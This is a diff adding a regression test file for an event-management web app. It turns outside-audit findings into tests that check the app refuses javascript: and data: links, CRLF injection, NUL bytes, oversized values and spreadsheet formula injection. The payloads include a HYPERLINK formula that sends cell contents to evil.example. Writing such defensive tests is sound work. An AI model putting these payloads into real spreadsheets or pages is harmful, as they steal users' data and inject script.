@@ -1,0 +1,154 @@
+"""Every attack and fault an outside audit found, kept in the suite so it stays fixed."""
+
+import pytest
+from sqlalchemy import select
+
+from eventapp.events.models import Event
+from tests.conftest import post_form
+from tests.test_events import _new_event_form
+
+
+@pytest.fixture
+def kotim(make_org, make_user):
+    org = make_org()
+    return {"org": org, "user": make_user(org)}
+
+
+# --- Links and one-line fields -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "link",
+    [
+        "javascript:alert(document.cookie)",
+        " JaVaScRiPt:alert(1)",
+        "data:text/html,<script>",
+        "//evil.example",
+    ],
+)
+def test_event_links_accept_only_web_addresses(client, login, db, kotim, link):
+    login(kotim["user"])
+    page = post_form(
+        client, "/kelola/acara/baru?jenis=webinar", _new_event_form(map_url=link, online_url=link)
+    )
+    text = page.get_data(as_text=True)
+    assert page.status_code == 200
+    assert text.count("Tautan harus diawali https://") == 2
+    assert "Webinar Literasi Digital" in text  # what was typed is kept
+    assert db.session.scalar(select(Event)) is None
+
+
+def test_a_line_break_in_a_one_line_field_is_refused_with_every_other_error(client, login, db, kotim):
+    login(kotim["user"])
+    form = _new_event_form(title="Webinar\r\nBcc: semua@contoh.id", online_url="https://zoom.us/j/1\nX:y")
+    form["venue_capacity"] = "-5"
+    text = post_form(client, "/kelola/acara/baru?jenis=webinar", form).get_data(as_text=True)
+    assert text.count("tidak boleh berisi baris baru") == 2
+    assert "Tidak boleh negatif." in text
+    assert db.session.scalar(select(Event)) is None
+
+
+def test_the_event_service_refuses_a_script_link_too(db, kotim, make_event):
+    from eventapp.errors import ValidationFailed
+
+    with pytest.raises(ValidationFailed) as error:
+        make_event(kotim["org"], mode="daring", online_url="javascript:alert(1)", online_capacity=10)
+    assert error.value.code == "url_scheme"
+
+
+def test_kim_and_office_links_use_the_same_rule(client, login, kotim, make_kim):
+    login(kotim["user"])
+    kim = make_kim(kotim["org"])
+    page = client.get(f"/kelola/kim/{kim.id}/ubah")
+    assert page.status_code == 200
+    from tests.conftest import csrf_token
+
+    data = {
+        "csrf_token": csrf_token(client, f"/kelola/kim/{kim.id}/ubah"),
+        "name": kim.name,
+        "registration_number": kim.registration_number,
+        "website_url": "javascript:alert(1)",
+        "youtube_url": "https://youtube.com/@kim",
+    }
+    text = client.post(f"/kelola/kim/{kim.id}/ubah", data=data).get_data(as_text=True)
+    assert text.count("Tautan harus diawali https://") == 1
+
+
+# --- Malformed input at the edges ----------------------------------------------------------------
+
+
+def test_numbers_too_big_for_the_database_are_not_found_not_errors(client, login, kotim):
+    huge = "9" * 20
+    assert client.get(f"/kalender/organisasi/{huge}.ics").status_code == 404
+    assert client.get(f"/acara?page={huge}&kabupaten={huge}&penyelenggara=-{huge}").status_code == 200
+    login(kotim["user"])
+    assert client.get(f"/kelola/acara/{huge}").status_code == 404
+    assert client.get(f"/kelola/kim/?page={huge}&kabupaten=x{huge}").status_code == 200
+
+
+def test_a_nul_byte_is_refused_with_a_page_not_a_crash(client, login, kotim):
+    assert client.get("/acara?q=ab%00cd").status_code == 400
+    login(kotim["user"])
+    page = post_form(client, "/kelola/acara/baru?jenis=webinar", _new_event_form(title="Web\x00inar"))
+    assert page.status_code == 400
+    assert "Permintaan tidak dapat diproses" in page.get_data(as_text=True)
+    assert client.get("/kelola/acara/").status_code == 200  # the next request is served normally
+
+
+@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31"])
+def test_dates_outside_sensible_years_are_form_errors(client, login, db, kotim, day):
+    login(kotim["user"])
+    form = _new_event_form(day=day, registration_opens_at=f"{day}T08:00")
+    page = post_form(client, "/kelola/acara/baru?jenis=webinar", form)
+    assert page.status_code == 200
+    assert page.get_data(as_text=True).count("Tahun harus antara 1900 dan 2100") == 2
+    assert db.session.scalar(select(Event)) is None
+
+
+def test_huge_capacities_are_form_errors(client, login, db, kotim):
+    login(kotim["user"])
+    form = _new_event_form(venue_capacity="99999999999999999999", online_capacity="3000000000")
+    page = post_form(client, "/kelola/acara/baru?jenis=webinar", form)
+    assert page.status_code == 200
+    assert db.session.scalar(select(Event)) is None
+
+
+# --- Exports never contain live formulas ---------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'
+
+
+def _xlsx_cells(content: bytes) -> list:
+    import io
+
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+
+
+def test_exports_write_every_cell_as_a_value(client, login, kotim, make_event, make_kim):
+    from eventapp.attendance import services as attendance
+    from eventapp.dbtypes import utcnow
+    from eventapp.registration import services as registration
+    from tests.conftest import registrant
+
+    event = make_event(kotim["org"])
+    make_kim(kotim["org"], name="+KIM " + FORMULA, decree_number="@SUM(1+1)")
+    result = registration.register(event, registrant(name=FORMULA, institution="-2+3"), utcnow())
+    attendance.check_in(kotim["user"], event, event.sessions[0], result.registration, utcnow())
+    login(kotim["user"])
+    for url in (
+        f"/kelola/acara/{event.id}/peserta/ekspor.xlsx",
+        f"/kelola/acara/{event.id}/presensi/matriks.xlsx",
+        "/kelola/kim/ekspor.xlsx",
+    ):
+        cells = _xlsx_cells(client.get(url).data)
+        assert not [cell for cell in cells if cell.data_type == "f"], url
+        assert any(FORMULA in str(cell.value) for cell in cells), url
+    for url in (f"/kelola/acara/{event.id}/peserta/ekspor.csv", "/kelola/kim/ekspor.csv"):
+        text = client.get(url).data.decode("utf-8-sig")
+        assert "'=HYPERLINK" in text or "'+KIM =HYPERLINK" in text, url
+        for line in text.splitlines()[1:]:
+            for dangerous in ("=", "+", "-", "@"):
+                assert f",{dangerous}" not in line and not line.startswith(dangerous), (url, line)
